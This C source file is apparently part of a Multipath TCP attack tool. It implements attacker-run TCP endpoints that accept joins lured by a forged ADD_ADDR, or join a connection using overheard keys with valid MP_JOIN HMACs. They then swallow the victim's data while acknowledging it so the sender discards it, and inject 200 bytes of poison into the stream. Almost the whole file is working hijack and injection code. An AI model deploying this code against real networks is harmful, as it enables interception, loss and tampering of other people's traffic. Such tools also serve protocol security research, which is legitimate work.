/* SPDX-License-Identifier: MIT */
/* attack/end.c - TCP ends that the attacker plays itself: it answers the joins that a forged ADD_ADDR brings, or joins a
 * connection whose keys it overheard (RFC 7430 2 and 5, RFC 8684 3.2 and 5), takes what is sent there and pretends that
 * all is well. Just enough of TCP for that: no loss recovery, in order. Called by attack.c and a_join.c. */
#include "attack/private.h"

#include "crypto/crypto.h"

enum { END_FREE, END_SYN_SENT, END_OPEN };
enum { END_WINDOW = 0xffff, END_MSS = 1400, POISON = 200 /* octets that it adds to the stream */ };

static int same_host(const struct mpt_addr *a, const struct mpt_addr *b)
{
    return a->family == b->family && a->family && !memcmp(a->ip, b->ip, a->family == 6 ? 16 : 4);
}

struct mpt_addr mpt_end_host(const struct mpt_attack *a, const struct mpt_addr *addr, uint16_t port)
{
    struct mpt_addr host = addr->family == 6 ? a->config.host6 : a->config.host4;

    host.port = port;
    return host;
}

static struct attack_end *find_end(struct mpt_attack *a, const struct mpt_attack_view *v)
{
    for (size_t i = 0; i < ATTACK_ENDS; i++) {
        struct attack_end *e = &a->end[i];

        if (e->state != END_FREE && same_host(&e->local, &v->dst) && e->local.port == v->dst.port &&
            same_host(&e->remote, &v->src) && e->remote.port == v->src.port)
            return e;
    }
    return NULL;
}

static struct attack_end *free_end(struct mpt_attack *a)
{
    for (size_t i = 0; i < ATTACK_ENDS; i++)
        if (a->end[i].state == END_FREE) {
            memset(&a->end[i], 0, sizeof a->end[i]);
            return &a->end[i];
        }
    a->stats.failed++;
    return NULL;
}

static int end_send(struct mpt_attack *a, const struct attack_end *e, uint8_t flags, const uint8_t *opt, size_t n,
                    const uint8_t *data, uint32_t len, uint64_t now)
{
    struct mpt_attack_view v = { .src = e->local, .dst = e->remote, .path = e->path, .dir = e->dir };
    struct mpt_tcp_out out = { .seq = e->snd, .ack = flags & MPT_TCP_ACK ? e->rcv : 0, .window = END_WINDOW,
                               .flags = flags, .opt_len = (uint32_t)n, .len = len };

    return mpt_forge_raw(a, &v, &out, opt, data, now, now);
}

/* The sender of a message has its key and nonce first (RFC 8684 3.2). */
static void join_hmac(uint8_t out[32], const struct attack_conn *c, uint32_t sender, uint32_t first, uint32_t second)
{
    uint8_t key[16], message[8];
    struct mpt_piece piece = { message, sizeof message };

    mpt_bytes_put64(mpt_bytes_put64(key, c->key[sender]), c->key[!sender]);
    mpt_bytes_put32(mpt_bytes_put32(message, first), second);
    mpt_crypto_hmac(out, key, sizeof key, &piece, 1);
}

/* Of a SYN: MSS and MP_JOIN, no timestamps, no window scale. */
static size_t syn_options(uint8_t *opt, const struct mpt_mp_join *join)
{
    uint8_t *p = opt;

    *p++ = 2;
    *p++ = 4;
    p = mpt_bytes_put16(p, END_MSS);
    return (size_t)(mpt_options_pad(opt, mpt_mp_join_build(p, join)) - opt);
}

struct attack_end *mpt_end_join(struct mpt_attack *a, struct mpt_attack_aim *m, const struct mpt_attack_flow *f,
                                uint16_t port, uint64_t now)
{
    struct attack_end *e = free_end(a);
    struct mpt_mp_join join = { .len = 12 };
    uint8_t opt[40];

    if (!e)
        return NULL;
    e->local = f->end[0];
    e->local.port = port;
    e->remote = f->end[1];
    e->path = f->path;
    e->dir = MPT_ATTACK_UP;
    e->conn = f->conn;
    e->aim = m;
    e->iss = e->snd = mpt_attack_random(a);
    e->random = join.random = mpt_attack_random(a);
    join.token = f->conn->token[1];
    join.id = e->id = 77;
    e->state = END_SYN_SENT;
    end_send(a, e, MPT_TCP_SYN, opt, syn_options(opt, &join), NULL, 0, now);
    e->snd++;
    return e;
}

/* Somebody joins the address that was announced to him. */
static void accept_join(struct mpt_attack *a, const struct mpt_attack_seg *p, uint64_t now)
{
    struct attack_conn *c = mpt_learn_token(a, p->s.mp.join.token);
    struct attack_end *e = c ? free_end(a) : NULL;
    struct mpt_mp_join join = { .len = 16, .id = 66 };
    uint8_t opt[40], h[32];

    if (!e || !c->known[0] || !c->known[1])
        return;
    e->local = p->v.dst;
    e->remote = p->v.src;
    e->path = p->v.path;
    e->dir = !p->v.dir;
    e->conn = c;
    e->peer_random = p->s.mp.join.random;
    e->random = join.random = mpt_attack_random(a);
    e->iss = e->snd = mpt_attack_random(a);
    e->rcv = p->s.seq + 1;
    e->state = END_OPEN;
    join_hmac(h, c, e->dir, e->random, e->peer_random);
    memcpy(join.hmac, h, 8);
    end_send(a, e, MPT_TCP_SYN | MPT_TCP_ACK, opt, syn_options(opt, &join), NULL, 0, now);
    e->snd++;
}

/* SYN/ACK to the attacker's own join: the third ACK proves that it has the keys. */
static void finish_join(struct mpt_attack *a, struct attack_end *e, const struct mpt_attack_seg *p, uint64_t now)
{
    struct mpt_mp_join join = { .len = 24 };
    uint8_t opt[40], h[32];

    if (!MPT_HAS(&p->s.mp, MP_JOIN)) {
        e->state = END_FREE;
        return;
    }
    e->peer_random = p->s.mp.join.random;
    e->rcv = p->s.seq + 1;
    e->state = END_OPEN;
    join_hmac(h, e->conn, e->dir, e->random, e->peer_random);
    memcpy(join.hmac, h, 20);
    end_send(a, e, MPT_TCP_ACK, opt, (size_t)(mpt_options_pad(opt, mpt_mp_join_build(opt, &join)) - opt), NULL, 0, now);
}

/* Octets of the attacker's in the middle of the stream, well ahead of the true ones. */
static void poison(struct mpt_attack *a, struct attack_end *e, uint64_t now)
{
    struct mpt_dss d = { .flags = DSS_MAP, .dsn = (uint32_t)e->dsn, .ssn = e->snd - e->iss, .dll = POISON };
    uint8_t opt[40], data[POISON];

    memset(data, 'X', sizeof data);
    end_send(a, e, MPT_TCP_ACK | MPT_TCP_PSH, opt, (size_t)(mpt_options_pad(opt, mpt_dss_build(opt, &d)) - opt), data,
             POISON, now);
    e->snd += POISON;
    e->poison = 0;
}

/* Acknowledged at both levels: the sender forgets what nobody else has. */
static void swallow(struct mpt_attack *a, struct attack_end *e, const struct mpt_attack_seg *p, uint64_t now)
{
    struct mpt_dss d = { .flags = DSS_ACK };
    uint8_t opt[40];
    size_t n = 0;

    if (p->s.seq != e->rcv) /* out of order: as if lost */
        return;
    e->rcv += p->s.len + (p->s.flags & MPT_TCP_FIN ? 1 : 0);
    a->stats.octets += p->s.len;
    if (MPT_HAS(&p->s.mp, DSS) && (p->s.mp.dss.flags & DSS_MAP)) {
        d.ack = (uint32_t)(p->s.mp.dss.dsn + p->s.mp.dss.dll);
        n = (size_t)(mpt_options_pad(opt, mpt_dss_build(opt, &d)) - opt);
    }
    end_send(a, e, MPT_TCP_ACK, opt, n, NULL, 0, now);
}

/* The acknowledgement of the initiator's third ACK (RFC 8684 3.2): of length 0, but owed. */
static void on_open(struct mpt_attack *a, struct attack_end *e, const struct mpt_attack_seg *p, uint64_t now)
{
    if (p->s.flags & MPT_TCP_RST)
        e->state = END_FREE;
    else if (p->s.flags & MPT_TCP_SYN)
        return;
    else if (p->s.len || (p->s.flags & MPT_TCP_FIN))
        swallow(a, e, p, now);
    else if (MPT_HAS(&p->s.mp, MP_JOIN))
        end_send(a, e, MPT_TCP_ACK, NULL, 0, NULL, 0, now);
    if (e->state == END_OPEN && e->poison && !(p->s.flags & MPT_TCP_SYN))
        poison(a, e, now);
}

int mpt_end_take(struct mpt_attack *a, struct mpt_attack_seg *p, uint64_t now)
{
    struct attack_end *e = find_end(a, &p->v);
    int ours = same_host(&p->v.dst, &a->config.host4) || same_host(&p->v.dst, &a->config.host6);

    if (!e && !ours)
        return 0;
    a->stats.absorbed++;
    if (!e && (p->s.flags & (MPT_TCP_SYN | MPT_TCP_ACK)) == MPT_TCP_SYN && MPT_HAS(&p->s.mp, MP_JOIN))
        accept_join(a, p, now);
    else if (e && e->state == END_SYN_SENT && (p->s.flags & MPT_TCP_SYN))
        finish_join(a, e, p, now);
    else if (e)
        on_open(a, e, p, now);
    return 1;
}
